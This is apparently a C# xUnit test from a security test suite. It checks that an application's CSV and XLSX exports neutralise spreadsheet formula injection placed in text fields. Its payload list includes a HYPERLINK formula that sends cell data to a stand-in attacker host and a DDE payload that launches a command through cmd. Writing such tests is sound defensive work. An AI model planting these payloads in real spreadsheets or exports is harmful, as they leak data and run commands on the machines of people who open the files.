using System.IO.Compression;
using RetroBot.Tests.Catalogs;
using RetroBot.Tests.Emulator;
using RetroBot.Tests.Running;
using Xunit;

namespace RetroBot.Tests.Attacks;

/// <summary>A12. The program owner: formula in a text field of CSV or XLSX. What must happen: neutralised.</summary>
public sealed class A12Formulas(StorageEmulator emulator) : Attack(emulator)
{
    private static readonly string[] Formulas =
    [
        "=HYPERLINK(\"https://attacker.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)", "＝1+1", "＋1", "－1", "＠SUM(A1)", "\"=1+1", "'=1+1", "notes;=1+1", "notes;\"=1+1",
    ];

    public override Holding Holds => Holding.OwnersSeat;

    [Fact]
    public Task No_cell_is_run_by_a_spreadsheet() => MustWinNothingAsync();

    public override async Task<IReadOnlyList<string>> TryAsync(World world)
    {
        var view = new OwnersView(world);
        await view.PublishAsync(Formulas.Select((formula, number) => SampleStudies.Published(view.Team("blue"), number, title: formula, howToTry: formula)), Ct);

        var cells = (await view.RowsAsync(Ct)).SelectMany(row => row.Values).ToList();
        using var workbook = new ZipArchive(new MemoryStream(await view.ExportAsync("xlsx", Ct)));
        using var sheet = new StreamReader(await workbook.GetEntry("xl/worksheets/sheet1.xml")!.OpenAsync(Ct));
        var xml = await sheet.ReadToEndAsync(Ct);

        List<string> won = [.. cells.SelectMany(AsOtherCountriesRead).Where(Runs).Select(cell => $"CSV runs {cell}.")];
        if (xml.Contains(":f>", StringComparison.Ordinal) || xml.Contains("<f>", StringComparison.Ordinal) || !xml.Contains("inlineStr", StringComparison.Ordinal)) won.Add("The workbook holds a formula.");
        if (cells.Count(cell => cell.Contains("HYPERLINK", StringComparison.Ordinal)) != 2) won.Add("The texts are not in the export: the attack looked at nothing.");
        return won;
    }

    /// <summary>Where lists are written with semicolons, a cell may be taken for several.</summary>
    private static IEnumerable<string> AsOtherCountriesRead(string cell) => cell.Split(';').Prepend(cell);

    private static bool Runs(string cell) => cell.TrimStart(' ', '"') is { Length: > 0 } text && "=+-@＝＋－＠\t\r\n".Contains(text[0], StringComparison.Ordinal);
}
